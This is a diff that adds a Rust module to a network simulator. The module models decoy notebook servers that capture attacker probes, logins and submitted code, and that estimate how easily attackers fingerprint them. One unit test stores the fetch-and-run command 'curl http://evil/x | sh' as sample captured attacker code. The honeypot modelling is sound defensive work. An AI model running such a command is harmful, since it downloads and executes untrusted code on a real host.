@@ -1,0 +1,143 @@
+//! Decoy notebook servers.
+
+use ja_netsim::addr::HostAddr;
+use ja_netsim::rng::SimRng;
+use ja_netsim::time::SimTime;
+
+/// What an attacker did to a decoy.
+#[derive(Clone, Debug, PartialEq)]
+pub enum Interaction {
+    /// TCP probe only.
+    Probe,
+    /// Login / token attempt.
+    Login {
+        /// Claimed username.
+        username: String,
+    },
+    /// Code execution attempt (the signature goldmine).
+    ExecuteCell {
+        /// The submitted code.
+        code: String,
+    },
+}
+
+/// A captured interaction.
+#[derive(Clone, Debug)]
+pub struct Capture {
+    /// When.
+    pub time: SimTime,
+    /// Attacker source.
+    pub src: HostAddr,
+    /// What.
+    pub interaction: Interaction,
+}
+
+/// A decoy instance.
+#[derive(Clone, Debug)]
+pub struct Decoy {
+    /// Fleet-unique id.
+    pub id: u32,
+    /// Externally visible address.
+    pub addr: HostAddr,
+    /// Realism in [0, 1]: how well the decoy resists fingerprinting.
+    /// (The paper cites a taxonomy of honeypot-fingerprinting
+    /// techniques; realism is the defender-side summary of it.)
+    pub realism: f64,
+    /// Everything captured.
+    pub captures: Vec<Capture>,
+}
+
+impl Decoy {
+    /// New decoy with a given realism.
+    pub fn new(id: u32, realism: f64) -> Self {
+        Decoy {
+            id,
+            // Decoys sit at the network edge: externally routable.
+            addr: HostAddr::external(0xD0_00 + id),
+            realism: realism.clamp(0.0, 1.0),
+            captures: Vec::new(),
+        }
+    }
+
+    /// Does a fingerprinting attacker identify (and skip) this decoy?
+    /// Sophistication in [0, 1]: probability mass the attacker invests
+    /// in fingerprinting.
+    pub fn fingerprinted_by(&self, sophistication: f64, rng: &mut SimRng) -> bool {
+        // A fully realistic decoy is never identified; a naive decoy is
+        // caught by any attacker that bothers to check.
+        rng.chance(sophistication * (1.0 - self.realism))
+    }
+
+    /// Record an interaction.
+    pub fn capture(&mut self, time: SimTime, src: HostAddr, interaction: Interaction) {
+        self.captures.push(Capture {
+            time,
+            src,
+            interaction,
+        });
+    }
+
+    /// All captured code payloads.
+    pub fn captured_code(&self) -> Vec<&str> {
+        self.captures
+            .iter()
+            .filter_map(|c| match &c.interaction {
+                Interaction::ExecuteCell { code } => Some(code.as_str()),
+                _ => None,
+            })
+            .collect()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn capture_accumulates() {
+        let mut d = Decoy::new(1, 0.8);
+        let src = HostAddr::external(5);
+        d.capture(SimTime::ZERO, src, Interaction::Probe);
+        d.capture(
+            SimTime::from_secs(1),
+            src,
+            Interaction::ExecuteCell {
+                code: "curl http://evil/x | sh".into(),
+            },
+        );
+        assert_eq!(d.captures.len(), 2);
+        assert_eq!(d.captured_code(), vec!["curl http://evil/x | sh"]);
+    }
+
+    #[test]
+    fn realism_bounds_fingerprinting() {
+        let mut rng = SimRng::new(1);
+        let perfect = Decoy::new(1, 1.0);
+        let naive = Decoy::new(2, 0.0);
+        let mut perfect_hits = 0;
+        let mut naive_hits = 0;
+        for _ in 0..1000 {
+            if perfect.fingerprinted_by(1.0, &mut rng) {
+                perfect_hits += 1;
+            }
+            if naive.fingerprinted_by(1.0, &mut rng) {
+                naive_hits += 1;
+            }
+        }
+        assert_eq!(perfect_hits, 0);
+        assert!(naive_hits > 900);
+    }
+
+    #[test]
+    fn unsophisticated_attacker_never_fingerprints() {
+        let mut rng = SimRng::new(2);
+        let naive = Decoy::new(3, 0.0);
+        assert!(!(0..100).any(|_| naive.fingerprinted_by(0.0, &mut rng)));
+    }
+
+    #[test]
+    fn realism_clamped() {
+        assert_eq!(Decoy::new(1, 7.0).realism, 1.0);
+        assert_eq!(Decoy::new(1, -1.0).realism, 0.0);
+    }
+}
